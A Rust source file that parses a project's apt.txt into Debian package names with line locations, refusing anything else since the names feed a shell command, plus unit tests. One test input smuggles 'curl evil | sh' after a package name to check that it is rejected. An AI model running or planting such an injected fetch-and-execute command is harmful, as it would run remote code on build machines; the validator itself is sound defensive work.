//! `apt.txt`: Debian packages the project says it needs at run time, one
//! per line, `#` comments: the convention of repo2docker (and Binder),
//! which many data and notebook projects already carry.
//!
//! Read from the project root only (repo2docker also looks in `binder/`
//! and `.binder/`; not supported). A name may carry a version pin
//! (`libpq5=15.18-0+deb12u1`). Anything that is not a Debian package name
//! is an error naming the line: the names end up in a shell command.

use crate::data::native::valid_debian_package;
use crate::diagnostics::attention;
use crate::evidence::{Located, Location};
use crate::project::{MANIFEST_LIMIT, Project};
use anyhow::Result;

pub const FILE: &str = "apt.txt";

/// The packages `apt.txt` lists, in file order, each with its line.
pub fn read(project: &Project) -> Result<Vec<Located<String>>> {
    match project.read_required(FILE, MANIFEST_LIMIT)? {
        Some(text) => parse(&text),
        None => Ok(Vec::new()),
    }
}

fn parse(text: &str) -> Result<Vec<Located<String>>> {
    let mut out = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let location = Location::at(FILE, index as u32 + 1);
        let content = line.split('#').next().unwrap_or_default().trim();
        if content.is_empty() {
            continue;
        }
        for word in content.split_whitespace() {
            if !valid_debian_package(word) {
                return Err(attention(format!(
                    "{location}: `{word}` is not a Debian package name (lowercase letters, digits, `+`, `-`, \
                     `.`; optionally `=version`); list one package per line, `#` starts a comment"
                )));
            }
            out.push(Located::new(word.to_string(), location.clone()));
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packages_comments_and_pins() {
        let text =
            "# runtime libraries\nlibmagic1\n\n  poppler-utils   # pdf2image\nlibpq5=15.18-0+deb12u1\n";
        let packages: Vec<_> =
            parse(text).unwrap().into_iter().map(|p| format!("{} {}", p.value, p.location)).collect();
        assert_eq!(
            packages,
            ["libmagic1 apt.txt:2", "poppler-utils apt.txt:4", "libpq5=15.18-0+deb12u1 apt.txt:5"]
        );
    }

    #[test]
    fn anything_else_is_refused_with_its_line() {
        let err = parse("libmagic1\nlibpq5 && curl evil | sh\n").unwrap_err().to_string();
        assert!(err.starts_with("apt.txt:2: `&&` is not a Debian package name"), "{err}");
        assert!(parse("LibMagic\n").is_err());
    }
}
